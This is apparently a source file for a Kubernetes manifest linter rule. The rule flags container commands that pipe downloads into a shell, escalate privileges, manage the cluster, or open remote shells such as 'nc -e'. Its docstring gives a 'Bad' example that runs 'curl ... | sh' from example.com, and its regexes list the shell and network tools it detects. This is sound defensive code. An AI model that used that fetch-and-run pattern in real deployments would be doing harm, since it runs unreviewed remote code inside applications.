"""A command that an attacker would write.

What: a container's command, arguments, hooks or probes that pipe a download into an interpreter, call sudo, kubectl,
docker or an SSH server; and git-sync's variable GITSYNC_GIT.
Why: what a server on the internet sends at each start runs in the app; nobody has reviewed it, and it may change. The
others need rights that no app has here.

Bad:

    apiVersion: apps/v1
    kind: Deployment
    metadata: {name: web}
    spec:
      template:
        spec:
          containers:
            - name: web
              command: [sh, -c, "curl -s https://example.com/run.sh | sh"]

Good:

    apiVersion: apps/v1
    kind: Deployment
    metadata: {name: web}
    spec:
      template:
        spec:
          containers:
            - name: web
              command: [/run]

Fix: put the program into the image when it is built.
"""

import re
from collections.abc import Iterator

from ...app.app import App
from ...app.workloads import WORKLOADS
from ...render.objects import Object
from .. import Problem
from .._pods import HANDLERS, command_line

ID = "container-command"
KINDS = WORKLOADS
HINT = "put the program into the image"
COVERS = ("checkov:CKV_K8S_159", "kubescape:C-0042", "kubescape:C-0062")
_SHELL = r"(?:\S*/)?(?:sh|bash|dash|ash|zsh|python3?|perl|ruby|node)\b"
_COMMANDS = {
    "runs what it downloads": re.compile(
        rf"\b(?:curl|wget)\b[^|;&]*\|\s*(?:\w+\s+)?{_SHELL}"
        rf"|\b{_SHELL}\s+(?:-\w+\s+)?[\"']?(?:<\(|\$\(|`)\s*(?:curl|wget)\b"
    ),
    "needs rights that it doesn't get": re.compile(r"(?:^|[\s;&|/])(?:sudo|doas|su|nsenter|chroot)(?:\s|$)"),
    "manages a cluster": re.compile(r"(?:^|[\s;&|/])(?:kubectl|helm|docker|crictl|podman)\s"),
    "is a way in for somebody": re.compile(r"(?:^|[\s;&|/])(?:sshd|dropbear|telnetd)(?:\s|$)|\bnc\b[^|;&]*\s-\w*e"),
}
_LINES = (("command",), ("args",), *((*handler, "exec", "command") for handler in HANDLERS))


def check(obj: Object, app: App) -> Iterator[Problem]:
    """Yield a problem for each suspicious command."""
    for container in obj.containers():
        for line in _LINES:
            pointer = (*container.pointer, *line)
            text = command_line(obj.get(*pointer))
            for what, pattern in _COMMANDS.items():
                if pattern.search(text):
                    yield Problem(f"container {container.name} {what}", obj, pointer)
        for index, variable in enumerate(obj.sequence(*container.pointer, "env")):
            if isinstance(variable, dict) and variable.get("name") == "GITSYNC_GIT":
                pointer = (*container.pointer, "env", index, "name")
                yield Problem(f"container {container.name} lets a variable name the program to run", obj, pointer)
